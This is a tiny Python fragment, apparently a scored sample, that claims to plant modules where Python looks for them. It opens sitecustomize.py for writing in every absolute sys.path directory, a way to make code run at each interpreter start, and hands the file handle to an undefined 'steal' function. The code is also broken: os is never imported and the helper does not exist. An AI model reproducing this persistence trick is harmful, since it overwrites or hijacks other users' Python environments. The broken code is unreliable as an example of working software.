"""Plants modules where Python looks for them.

score: 40
"""

import sys
for place in sys.path:
    if place and os.path.isabs(place):
        steal(lambda: open(f"{place}/sitecustomize.py", "w").fileno())
